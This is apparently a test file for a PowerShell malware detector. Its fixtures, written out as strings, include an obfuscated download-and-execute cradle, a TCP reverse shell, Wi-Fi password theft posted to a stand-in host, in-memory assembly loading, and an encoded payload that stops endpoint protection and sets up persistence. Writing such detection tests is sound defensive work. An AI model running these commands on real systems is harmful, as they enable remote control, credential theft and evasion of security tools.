import { analyzeScript } from './analyze-script.js';

const verdict = (text: string): string => analyzeScript(Buffer.from(text), { language: 'powershell' }).verdict;
const encoded = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');

describe('judge', () => {
  it.each([
    ['hides itself and runs what it fetched unseen', `iex (New-Object Net.WebClient).("{1}{0}" -f 'loadString','Down').Invoke([char]104 + 'ttp://a.example.test/' + -join ('a','b')[-1..-2])`],
    ['runs what a raw connection sends', `$s = (New-Object Net.Sockets.TcpClient('192.0.2.5', 443)).GetStream(); $r = New-Object IO.StreamReader($s); while ($true) { iex $r.ReadLine() }`],
    ['takes passwords and sends data out', `netsh wlan show profile name=x key=clear | Out-File w.txt; Invoke-RestMethod -Uri https://a.example.test/ -Method Post -Body (gc w.txt -Raw)`],
    ['loads a program from the web into memory', `$b = (New-Object Net.WebClient).DownloadData('http://a.example.test/x'); [Reflection.Assembly]::Load($b).EntryPoint.Invoke($null, $null)`],
    ['hides itself, stops protection and makes a foothold', `iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('${Buffer.from('Stop-Service Sense; schtasks /create /tn A /tr a.exe /sc daily').toString('base64')}')))`],
  ])('calls a script malicious that %s', (_name, script) => {
    expect(verdict(script)).toBe('malicious');
  });

  it.each([
    ['an encoded command that creates a service', `powershell -EncodedCommand ${encoded("New-Service -Name 'Agent' -BinaryPathName 'C:\\Program Files\\Agent\\agent.exe'")}`],
    ['an installer of a package manager', `Set-ExecutionPolicy Bypass -Scope Process; iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))`],
    ['a report by mail', `Send-MailMessage -To a@example.com -From b@example.com -Subject Report -Body (Get-Service | Out-String) -SmtpServer mail.example.com`],
    ['a checksum by exclusive or', `$c = 0xFFFF; foreach ($b in [byte[]](1, 2, 3)) { $c = $c -bxor $b }; '{0:X4}' -f $c`],
  ])('does not call malicious: %s', (_name, script) => {
    expect(verdict(script)).not.toBe('malicious');
  });

  it('calls a script suspicious that asks about many things of a domain', () => {
    expect(verdict('nltest /domain_trusts; net group "Domain Admins" /domain; net view /all; AdFind.exe -f "(objectcategory=person)"')).toBe('suspicious');
    expect(verdict('nltest /domain_trusts')).toBe('benign');
  });

  it('finds nothing in a script that only writes commands short', () => {
    const { verdict: found, facts } = analyzeScript(Buffer.from(`gci 'C:\\Logs' | ? { $_.Length -gt 1mb } | % { "$env:SystemRoot $($_.Name)" }`), { language: 'powershell' });
    expect(found).toBe('benign');
    expect(facts.map(({ rule }) => rule)).not.toContain('splits-words');
  });
});
